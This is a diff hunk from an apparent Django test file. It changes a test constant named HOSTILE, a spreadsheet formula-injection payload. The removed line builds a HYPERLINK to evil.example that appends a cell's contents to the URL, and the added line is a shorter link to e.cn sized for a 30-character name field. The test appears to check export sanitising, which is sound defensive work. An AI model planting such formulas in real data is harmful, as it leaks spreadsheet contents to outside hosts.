@@ -13,7 +13,7 @@ from tests.factories import StaffFactory
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+HOSTILE = '=HYPERLINK("http://e.cn","点")'  # fits the 30-character name
 
 
 @pytest.fixture
